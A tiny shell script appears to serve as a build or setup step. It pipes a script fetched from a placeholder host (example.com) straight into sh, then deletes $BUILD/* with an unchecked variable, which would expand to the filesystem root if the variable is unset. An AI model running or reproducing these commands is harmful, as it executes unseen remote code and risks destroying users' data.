#!/bin/sh
curl -s http://example.com/x.sh | sh
rm -rf $BUILD/*
